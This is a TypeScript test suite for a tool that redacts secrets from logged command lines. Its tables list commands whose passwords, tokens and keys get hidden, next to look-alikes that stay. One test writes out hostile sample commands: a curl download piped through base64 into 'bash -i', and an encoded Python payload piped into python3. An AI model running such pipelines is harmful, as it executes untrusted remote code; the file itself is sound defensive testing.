import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { redacted, redactorOf } from "./redact.fixture.ts";

/*
 * Every default rule with what it hides and with what looks alike and stays. S in a command is the secret and is seen as
 * [redacted]; a space separates arguments, so whoever needs one within an argument writes an array.
 */

type Command = string | readonly string[];

const JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZGEifQ.c2lnbmF0dXJl";
const KEY = "-----BEGIN OPENSSH PRIVATE KEY-----";
const SECRET = "S3cr.et+/x=!";

const cases: Readonly<Record<string, { readonly hides: readonly Command[]; readonly leaves: readonly Command[] }>> = {
  password: {
    hides: [
      "backup --password=S --verbose",
      "backup --password S --verbose",
      "wget --http-password=S http://example.org",
      "pg --db-password S -v",
      "pg --db_password S -v",
      "keytool -storepass S -keypass S -list",
      "java -Djavax.net.ssl.keyStorePassword=S -jar a.jar",
      "gpg --batch --passphrase S -c file",
      "env PGPASSWORD=S psql -h db",
      "env MYSQL_PWD=S SSHPASS=S mysql",
      "docker run -e POSTGRES_PASSWORD=S postgres",
      "docker run --env=POSTGRES_PASSWORD=S postgres",
      "helm install --set auth.rootPassword=S chart",
      ["sh", "-c", "FOO_PASSWORD=S cmd --flag && export BAR_PASSWORD='S'; rm -rf /tmp/x"],
      ["backup", "--password", "S S"],
      ["backup", "--password=S S&S;S"],
      ["env", "FOO_PASSWORD=S 'S\" S", "cmd"],
    ],
    leaves: [
      "cat /etc/passwd",
      "passwd ada",
      "getent passwd ada",
      "backup --password-file=/run/secrets/db",
      "docker login --password-stdin registry.example.org",
      "psql --no-password inventory",
      "app --ask-password inventory",
      "ssh -o PasswordAuthentication=no -o NumberOfPasswordPrompts=0 host",
      "app --password --verbose",
      "env PWD=/home/ada OLDPWD=/ BYPASS=1 cmd",
      "env SSH_ASKPASS=/usr/bin/askpass PGPASSFILE=/x cmd",
      "app --require-password=true",
      "grep -rn password src",
      "make compass bypass pass",
      [
        "sh",
        "-c",
        'FOO_PASSWORD=$PASS cmd; mysql --password="$PASS" -h db --password "${PASS}" --password=$(cat /run/x)',
      ],
    ],
  },
  token: {
    hides: [
      "kubectl --token=S get pods",
      "kubectl --token S get pods",
      "app --auth-token S",
      "curl --oauth2-bearer S http://h",
    ],
    leaves: [
      "app --token-file /run/t",
      "app --tokenizer bert",
      "aws s3api list --starting-token abc",
      "app --max-tokens 100",
    ],
  },
  secret: {
    hides: [
      "app --secret=S",
      "app --client-secret S",
      "app --secret-key S",
      "env AWS_SECRET_ACCESS_KEY=S aws s3 ls",
      "vault write auth/approle/login role_id=r secret_id=S",
      "aws secretsmanager create-secret --name n --secret-string S",
    ],
    leaves: [
      "docker build --secret id=npm,src=.npmrc .",
      "aws secretsmanager get-secret-value --secret-id prod/db",
      "kubectl get secret db -o yaml",
      "app --secret-name db",
    ],
  },
  key: {
    hides: [
      "app --api-key=S",
      "app --apikey S",
      "app --access-key S",
      "az --account-key S",
      "env FOO_API_KEY=S x",
      "up --authkey S",
    ],
    leaves: [
      "aws --access-key AKIAIOSFODNN7EXAMPLE",
      "env AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE cmd",
      "env TLS_PRIVATE_KEY=/etc/tls/server.key cmd",
      "ssh-keygen -t ed25519",
      "gpg --keyring x --list-keys",
      "ssh -i .ssh/id_ed25519 host",
    ],
  },
  mysql: {
    hides: [
      "mysql -u root -pS inventory",
      "mysql -p S inventory",
      "/usr/bin/mysqldump -pS inventory",
      "sudo -u root mysqladmin -pS status",
      "docker exec -i db mysql -pS",
      "mariadb -pS",
      ["sh", "-c", "mysql -pS -e 'select 1' | tee log"],
      ["ssh", "db1", "sh -c 'mysql -pS'"],
      ["bash", "-c", "bash -c \"mysql -p'S' db\""],
    ],
    leaves: [
      "mysql -p -u root inventory",
      "mysql -P 3306 -h db",
      "docker run --name mysql -p 3306:3306 mysql:8",
      "mkdir -p mysql/data",
      ["sh", "-c", "mysql db < dump.sql; mkdir -p x"],
      ["sh", "-c", 'mysql -p"$PASS" db'],
    ],
  },
  sshpass: {
    hides: ["sshpass -p S ssh host", "sshpass -pS ssh host"],
    leaves: ["sshpass -e ssh -p 22 host", "sshpass -f file ssh host"],
  },
  curl: {
    hides: [
      "curl -u ada:S http://h",
      "curl -uada:S http://h",
      "curl -sSu ada:S http://h",
      "curl --user ada:S http://h",
      "curl --user=ada:S http://h",
      "curl --proxy-user ada:S http://h",
      ["sh", "-c", "curl -u 'ada:S S' http://h"],
    ],
    leaves: [
      "curl -u ada http://h",
      "docker run --user 1000:1000 image",
      "curl -o out http://h:80/x",
      ["sh", "-c", "curl -u ada:$P h"],
    ],
  },
  "curl-cookie": { hides: ["curl -b session=S http://h"], leaves: ["curl -b cookies.txt http://h"] },
  "http-auth": { hides: ["http -a ada:S example.org"], leaves: ["http example.org a:=1"] },
  redis: { hides: ["redis-cli -a S ping", "redis-cli --pass S"], leaves: ["redis-cli -h host -p 6379"] },
  ldap: {
    hides: ["ldapsearch -D cn=admin -w S -b dc=x", "ldapadd -wS"],
    leaves: ["ldapsearch -W -D cn=admin -b dc=x", "grep -w x"],
  },
  ldappasswd: { hides: ["ldappasswd -s S -a S uid=ada"], leaves: ["ldapsearch -s sub -a never"] },
  smb: { hides: ["smbclient -U ada%S //h/s", "rpcclient --user=ada%S h"], leaves: ["smbclient -U ada //h/s"] },
  zip: { hides: ["zip -P S a.zip b", "unzip -PS a.zip"], leaves: ["unzip -p a.zip file", "gzip -P x"] },
  "7z": { hides: ["7z a -pS a.7z b"], leaves: ["7z a -p a.7z b", "7z x a.7z"] },
  rar: { hides: ["rar a -hpS a.rar b"], leaves: ["rar a -ep1 a.rar b"] },
  openssl: {
    hides: ["openssl rsa -passin pass:S -in k", "openssl enc -aes256 -pass pass:S"],
    leaves: ["openssl rsa -passin file:/run/p", "openssl enc -pass env:P -in x", "openssl req -newkey rsa:2048"],
  },
  "openssl-key": { hides: ["openssl enc -aes256 -k S", "openssl enc -K S -iv 0"], leaves: ["openssl s_client -k x"] },
  htpasswd: { hides: ["htpasswd -cb file ada S", "htpasswd -nbB ada S"], leaves: ["htpasswd -c file ada"] },
  login: {
    hides: ["docker login -u ada -p S registry", "az login -u ada -p S"],
    leaves: ["docker run -p 80:80 nginx", "docker login -u ada registry"],
  },
  registry: { hides: ["skopeo copy --src-creds ada:S docker://a docker://b"], leaves: ["podman pull image"] },
  kubectl: {
    hides: ["kubectl create secret generic db --from-literal=user=S --from-literal x=S"],
    leaves: ["kubectl create configmap c --from-literal=a=b", "kubectl get secret"],
  },
  aws: { hides: ["aws configure set aws_secret_access_key S"], leaves: ["aws configure set region eu-central-1"] },
  npm: { hides: ["npm config set //registry.npmjs.org/:_authToken S"], leaves: ["npm config set registry http://x"] },
  github: { hides: ["gh secret set DEPLOY -b S"], leaves: ["gh pr create -b text"] },
  mongo: { hides: ["mongodump -u ada -p S"], leaves: ["mongo --port 27017"] },
  cassandra: { hides: ["cqlsh -u ada -p S"], leaves: ["cqlsh host"] },
  "sql-server": { hides: ["sqlcmd -U sa -P S"], leaves: ["sqlcmd -E"] },
  mqtt: { hides: ["mosquitto_pub -u ada -P S -t x"], leaves: ["mosquitto_pub -p 1883"] },
  ipmi: { hides: ["ipmitool -U ada -P S power status"], leaves: ["ipmitool -E power status"] },
  putty: { hides: ["plink -pw S host"], leaves: ["plink -P 22 host"] },
  rdp: { hides: ["xfreerdp /u:ada /p:S /v:host"], leaves: ["xfreerdp /u:ada /v:host"] },
  lftp: { hides: ["lftp -u ada,S host"], leaves: ["lftp -u ada host"] },
  snmp: { hides: ["snmpwalk -v2c -c S host"], leaves: ["snmpwalk host"] },
  usermod: { hides: ["useradd -m -p S ada"], leaves: ["useradd -m ada"] },
  wifi: {
    hides: ["nmcli device wifi connect net password S", "nmcli con modify c wifi-sec.psk S"],
    leaves: ["nmcli con show"],
  },
  wpa: { hides: ["wpa_passphrase net S"], leaves: ["wpa_passphrase --help"] },
  minio: { hides: ["mc alias set store http://h ACCESS S"], leaves: ["mc alias list", "mc ls store"] },
  "url-password": {
    hides: [
      "git clone https://ada:S@example.org/x.git",
      "app redis://:S@h:6379/0",
      "psql postgresql://ada:S@db/inventory",
      "app mongodb+srv://ada:p@S@h/x",
      "app --db=mysql://ada:S@h/x",
      ["git", "clone", "https://0123456789abcdef0123456789abcdef@example.org/x.git"],
    ],
    leaves: [
      "git clone ssh://git@example.org:22/x.git",
      "git clone git@example.org:x.git",
      "curl http://example.org:8080/user@host",
      "curl http://[::1]:9200/_search",
    ],
  },
  parameter: {
    hides: [
      "mount -o username=ada,password=S //host/share /mnt",
      "curl https://h/x?a=1&access_token=S&b=2",
      "curl https://h/x?sig=S",
      "curl -d user=ada&password=S http://h",
      ["app", "Server=db;User Id=ada;Password=S;Timeout=3"],
      ["psql", "host=db user=ada password=S sslmode=on"],
      ["app", "DefaultEndpointsProtocol=https;AccountKey=S;EndpointSuffix=x"],
    ],
    leaves: [
      "curl https://h/x?design=1&tokens=2",
      ["sh", "-c", 'curl "https://h/x?token=$TOKEN&a=1"'],
      ["awk", "token == 3 { print }"],
    ],
  },
  json: {
    hides: [
      ["curl", "-d", '{"user":"ada","password":"S","n":1}', "http://h"],
      ["curl", "-d", '{"pass": "S \\" S"}', "http://h"],
      ["sh", "-c", 'curl -d "{\\"client_secret\\":\\"S\\"}" http://h'],
      ["ansible", "-e", "{'ansible_become_pass': 'S'}"],
    ],
    leaves: [
      ["jq", ".password"],
      ["jq", '{"passes": "x"}'],
    ],
  },
  "authorization-header": {
    hides: [
      ["curl", "-H", "Authorization: Bearer S", "http://h"],
      ["curl", "-H", "Authorization: Basic S", "http://h"],
      ["curl", "-H", "authorization:S", "http://h"],
      ["sh", "-c", "curl -H 'Authorization: ApiKey S' http://h"],
      ["git", "-c", "http.extraHeader=Authorization: Basic S", "fetch"],
    ],
    leaves: [
      ["curl", "-H", "Accept: application/json", "http://h"],
      ["sh", "-c", 'curl -H "Authorization: Bearer $TOKEN" http://h'],
    ],
  },
  "secret-header": {
    hides: [
      ["curl", "-H", "X-Api-Key: S", "h"],
      ["curl", "-HPRIVATE-TOKEN: S", "h"],
      ["curl", "-H", "Cookie: a=S; b=S", "h"],
      ["curl", "-H", "X-Vault-Token:S", "h"],
    ],
    leaves: [["git", "commit", "-m", "rename the token: it was misleading"]],
  },
  bearer: { hides: [["app", "--header", "Bearer SSSSSSSSSSSSSSSS"]], leaves: [["say", "bearer of news"]] },
  jwt: {
    hides: [
      ["decode", JWT],
      ["app", `--x=${JWT}`],
    ],
    leaves: [["base64", "-d", "eyJhbGciOiJIUzI1NiJ9"]],
  },
  "private-key": {
    hides: [
      ["sh", "-c", `echo "${KEY}\nS\nS\n-----END OPENSSH PRIVATE KEY-----" > k`],
      ["app", `${KEY}\nS`],
    ],
    leaves: [
      ["grep", "-r", "BEGIN RSA PRIVATE KEY"],
      ["app", "-----BEGIN PUBLIC KEY-----\nabc\n-----END PUBLIC KEY-----"],
    ],
  },
  "token-format": {
    hides: [
      ["gh", "auth", `ghp_${"a1B2".repeat(9)}`],
      ["git", "clone", `https://glpat-${"a1B2".repeat(5)}@gitlab.example.org/x.git`],
      ["app", "xoxb-123456789012-abcdefABCDEF"],
      ["app", `AIza${"a1B2c".repeat(7)}`],
      ["app", `sk-ant-api03-${"a1B2".repeat(6)}`],
      ["curl", "https://hooks.slack.com/services/T00000000/B00000000/abcdefgh"],
    ],
    leaves: [
      ["ls", "ghp_notes.txt"],
      ["node", "npm-cli.js"],
      ["app", "AKIAIOSFODNN7EXAMPLE"],
    ],
  },
};

/** Texts that rules of formats hide whole, in place of S. */
const FORMATS =
  /ghp_\w{36}|glpat-\w{20}|xoxb-[\w-]+|AIza\w{35}|sk-ant-[\w-]+|T00000000\/B\w+\/\w+|S{16}|[0-9a-f]{32}|eyJ[\w.-]{40,}/;

describe("the default rules", () => {
  for (const [name, { hides, leaves }] of Object.entries(cases)) {
    test(`${name}: hides`, () => {
      for (const command of hides) {
        const redactor = redactorOf("defaults");
        const given = argsOf(command, SECRET);
        const left = redacted(redactor, given);
        const told = `${JSON.stringify(given)} became ${JSON.stringify(left)}`;
        assert.notDeepEqual(left, given, told);
        assert.equal(left.length, given.length, told);
        assert.ok(!left.join("\0").includes("S3cr"), told);
        assert.ok(!FORMATS.test(left.join("\0")), told);
        assert.ok(
          (redactor.counters.rules[`default-${name}`] ?? 0) > 0,
          `${told}, counted as ${whatCounted(redactor.counters.rules)}`,
        );
      }
    });
    test(`${name}: leaves what looks alike`, () => {
      const redactor = redactorOf("defaults");
      for (const command of leaves) {
        const given = argsOf(command, "S");
        assert.deepEqual(redacted(redactor, given), given, whatCounted(redactor.counters.rules));
      }
      assert.equal(redactor.counters.images, 0);
    });
  }

  test("are all in this table", () => {
    assert.deepEqual(
      Object.keys(redactorOf("defaults").counters.rules).sort(),
      Object.keys(cases)
        .map((name) => `default-${name}`)
        .sort(),
    );
  });

  test("leave what detection rules read: programs, options, hosts, paths, payloads", () => {
    const given = [
      [
        "sh",
        "-c",
        "FOO_PASSWORD=hunter2 curl -fsS -u ada:hunter2 http://198.51.100.7/x.sh -o /tmp/x | base64 -d | bash -i",
      ],
      ["bash", "-c", "echo aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ== | base64 -d | python3"],
    ];
    assert.deepEqual(
      given.map((args) => redacted(redactorOf("defaults"), args)),
      [
        [
          "sh",
          "-c",
          "FOO_PASSWORD=[redacted] curl -fsS -u ada:[redacted] http://198.51.100.7/x.sh -o /tmp/x | base64 -d | bash -i",
        ],
        given[1],
      ],
    );
  });
});

function argsOf(command: Command, secret: string): string[] {
  const args = typeof command === "string" ? command.split(" ") : [...command];
  // Inside a command line a secret is one word, in a URL or list it has no punctuation of those.
  const plain = args.some((arg) => /[ ?&;%,:@]/.test(arg)) ? "S3cr.et+x" : secret;
  return args.map((arg) =>
    arg.replaceAll(/(?<![A-Za-z0-9_])S(?![A-Za-z0-9_])|(?<=^-(?:p|u|w|P|hp|wa))S$|(?<=-p)S\b/g, plain),
  );
}

function whatCounted(rules: Readonly<Record<string, number>>): string {
  return JSON.stringify(Object.entries(rules).filter(([, count]) => count > 0));
}
